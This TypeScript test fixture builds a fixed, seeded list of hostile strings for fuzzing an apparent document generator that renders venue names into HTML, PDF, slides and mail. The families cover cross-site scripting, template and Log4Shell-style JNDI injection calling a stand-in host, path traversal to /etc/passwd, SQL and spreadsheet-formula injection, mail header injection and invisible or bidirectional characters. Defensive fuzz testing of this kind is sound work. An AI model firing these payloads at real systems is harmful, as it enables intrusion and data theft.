import { COUNTS } from '../counts.ts'

/** Something that somebody could type, or paste, to break a document. */
export interface HostileText {
  readonly family: string
  readonly text: string
}

const long = (words: string, length = 300): string =>
  words.repeat(Math.ceil(length / words.length)).slice(0, length)

/** Written by hand, by what they try. Characters that cannot be seen are written by their numbers. */
const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  html: [
    '<b>Fernbank</b>',
    '</p></div></article></body></html>Fernbank',
    '<!-- Fernbank',
    '<h1>Second heading</h1>',
    '<plaintext>Fernbank',
    '<table><tr><td>Fernbank',
    '&lt;b&gt; &amp; &#60;i&#62; &nbsp;Inn',
    '<br/><hr><details open>Inn</details>',
  ],
  request: [
    '<img src=https://evil.example.org/x.png>',
    '<link rel=stylesheet href=https://evil.example.org/x.css>',
    '<iframe src="file:///etc/passwd"></iframe>',
    '<object data="https://evil.example.org/x.pdf"></object>',
    '<meta http-equiv=refresh content="0;url=https://evil.example.org">',
    '<base href="https://evil.example.org/">',
    '<svg><image href="https://evil.example.org/x.svg"/></svg>',
  ],
  script: [
    '<script>alert(1)</script>',
    '</style><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">Inn</a>',
    'javascript:alert(document.domain)',
  ],
  attribute: [
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"><img src=x>',
    'x" style="position:fixed;inset:0',
    '`onload=alert(1)`',
    '" alt="" hidden="',
  ],
  css: [
    'x{} body{display:none}',
    "'; } @page { size: A0 } .x { content: '",
    '\\27 ;}*{color:red}',
    '@import url(https://evil.example.org/x.css);',
    'url(https://evil.example.org/x.png)',
    '</style><style>*{display:none}',
    'expression(alert(1)) \\000a counter(page)',
  ],
  template: [
    '{{7*7}}',
    '$\u007B7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    '{% include "/etc/passwd" %}',
    '{{constructor.constructor("return process")()}}',
    '[[$\u007B7*7}]] @(1+1) *{7*7}',
    '$\u007Bjndi:ldap://evil.example.org/a}',
  ],
  place: [
    '{venue}',
    '{contact} {operation} {day}',
    '{codeWord}',
    '{ venue }',
    '{{venue}}',
    '$& $1 $` $$ $<name>',
    '{page} {part} {of} {subject}',
    'Inn {',
  ],
  yaml: [
    'key: value',
    '- one\n- two',
    '!!js/function "function(){}"',
    '&anchor *anchor',
    '---\nvenue: x',
    '# not a comment',
    '{a: [b, c]}',
    "'it''s'",
  ],
  direction: [
    'safe\u202Etxet\u202C Inn',
    '\u2067Inn\u2069 \u2066Fernbank\u2069',
    '\u200FInn\u200E',
    '\u202D12345\u202C',
    'Inn\u2068\u202E(evil)',
    '\u061CInn \u202B2026\u202C',
  ],
  invisible: [
    'Fern\u200Bbank',
    '\uFEFFFernbank',
    'Fern\u00ADbank\u2060Inn',
    '\u200D\u200C\u200B',
    'Fern\u180Ebank\u034FInn',
    'Inn\u{E0041}\u{E0042}',
    '\u3164\u115F\u1160',
    '\u2800\u2800',
  ],
  space: [
    '\u00A0\u2003Inn\u2009\u205F',
    'Inn\t\tFernbank',
    '   ',
    'Inn\u2028Fernbank\u2029',
    'Inn\u0085Fernbank',
    'Inn\u3000Fernbank',
  ],
  line: ['Inn\r\nBcc: x@example.org', 'Inn\nInn', '\rInn', 'Inn\n\n\n\n\n\n\n\n\n\nInn', 'Inn\v\fInn'],
  control: [
    'Inn\u0000Fernbank',
    '\u001B[31mInn\u001B[0m',
    'a\u0000b\u0008c\u001Fd\u007Fe',
    '\u0007Inn\u009B2J',
    'Inn\u001A',
  ],
  combining: [
    'Cafe\u0301 Noe\u0308l',
    'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307algo',
    'x\u20DDx\u20E3',
    'a\u0489\u0489',
    'W\u0302 \u0175 \u0177',
    '\u0301Inn',
  ],
  broken: ['Inn\uD800', '\uDC00Inn', 'Inn\uFFFE\uFFFF', 'Inn\uFFFD', 'Inn\uE000', '\u{10FFFF}'],
  long: [
    long('The Fernbank Hotel and Gardens '),
    long('The Old Railway Hotel, Spa and Conference Centre at Eastwick Quay by the Sea, '),
    long('W'),
    long('i'),
    long('Hotel-'),
    long('A B '),
    long('Gwesty’r Ŵyn a’r Bŷ '),
  ],
  word: [
    long('Llanfairpwllgwyngyll', 120),
    long('0123456789', 120),
    long('m', 120),
    long('_', 120),
    long('ÅÉÎŐŮ', 120),
    long('a.', 120),
    `The ${long('Donaudampfschiff', 112)} Inn`,
  ],
  emoji: ['Inn ☕', '👩‍👧 Inn', '🏨🏨🏨', 'Inn ❤️', '🇬🇧', '1️⃣ Inn'],
  writing: [
    'Отель',
    'ホテル',
    '호텔',
    'فندق',
    'מלון',
    'ہوٹل',
    'Ξενοδοχείο',
    'होटल',
    'โรงแรม',
    'Inn Отель Ĳ ĳ ẞ',
  ],
  lookalike: ['Ｉｎｎ', 'Іnn', 'ﬁne Inn ﬂat', '𝐈𝐧𝐧', '№ ℡ ™ ® ©', '½ ¼ ² ³ ª º'],
  url: [
    'https://evil.example.org/?a=<b>&c="d"',
    'https://user:pass@evil.example.org:8080/#x',
    'mailto:x@example.org?bcc=y@example.org&subject=Hi',
    'data:text/html,<script>alert(1)</script>',
    'file:///C:/Windows/System32',
    'https://www.example.org/{venue}',
    'tel:999;ext=1',
    '//evil.example.org',
  ],
  path: [
    '../../../etc/passwd',
    '..\\..\\Windows\\System32',
    'C:\\con',
    'CON',
    'nul.txt',
    'LPT1 .pdf',
    'COM¹',
    'a/b:c*d?e"f<g>h|i',
    '.hidden. .',
    '~$Inn.docx',
    'Inn::$DATA',
    '%APPDATA%\\x %00 $HOME',
  ],
  quote: [
    '"Inn"',
    "O'Brien's",
    '‘Inn’ “Fernbank” „Gasthof‟ «Auberge» ‹Inn›',
    '\\"Inn\\"',
    "'; DROP TABLE venues; --",
    '=HYPERLINK("https://evil.example.org")',
    '+44 -1 @SUM(A1)',
  ],
  mail: [
    'Inn <x@example.org>, y@example.org',
    '=?utf-8?Q?Inn?=',
    'Bcc: x@example.org',
    '.\r\n.\r\nMAIL FROM:<x@example.org>',
    '--boundary--',
    'x@example.org\u0000',
  ],
  pdf: [
    ') Tj ET /JS (app.alert(1))',
    '(Inn) \\) \\( \\053',
    'endstream endobj',
    '<</S/JavaScript>>',
    '%%EOF',
    '/Title (x)',
  ],
  slide: [
    '</a:t></a:r><a:t>',
    ']]><!--',
    '_x000D_ _x0041_',
    '<?xml version="1.0"?>',
    '&#x0; &#xD800;',
    '<!DOCTYPE x [<!ENTITY y "z">]>&y;',
  ],
  format: [
    '%s %n %x %1$s',
    '\\u0041 \\n \\x41',
    '%3Cb%3E %00',
    '**Inn** _Fernbank_ [x](https://evil.example.org)',
  ],
  other: ['-', '0', 'null', 'undefined', 'NaN', '[object Object]', 'true', '…', '999'],
}

/** The same numbers each time: a text that breaks something has to break it again. */
function numbersFrom(seed: number): () => number {
  let state = seed
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return state / 2 ** 32
  }
}

/** Pieces of what was written by hand, put together by chance. */
function mixed(count: number): readonly HostileText[] {
  const next = numbersFrom(20_261_212)
  const pieces = Object.values(FAMILIES).flat()
  const pick = (): string => pieces[Math.floor(next() * pieces.length)] ?? ''
  return Array.from({ length: count }, () => {
    const parts = Array.from({ length: 2 + Math.floor(next() * 4) }, () => {
      const piece = pick()
      const from = Math.floor(next() * piece.length * 0.3)
      return piece.slice(from, from + 6 + Math.floor(next() * 40))
    })
    return { family: 'mixed', text: parts.join(next() < 0.5 ? ' ' : '') }
  })
}

/** One of each family first, then the next of each: a share of the list has some of everything. */
function inTurns(): readonly HostileText[] {
  const families = Object.entries(FAMILIES)
  const most = Math.max(...families.map(([, texts]) => texts.length))
  return Array.from({ length: most }, (_, turn) =>
    families.flatMap(([family, texts]) => {
      const text = texts[turn]
      return text === undefined ? [] : [{ family, text }]
    }),
  ).flat()
}

const WRITTEN = inTurns()

/** Texts to be shown as they are or refused: those written by hand first, then mixtures of them. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...WRITTEN,
  ...mixed(Math.max(0, COUNTS.hostileTexts.texts - WRITTEN.length)),
].slice(0, COUNTS.hostileTexts.texts)
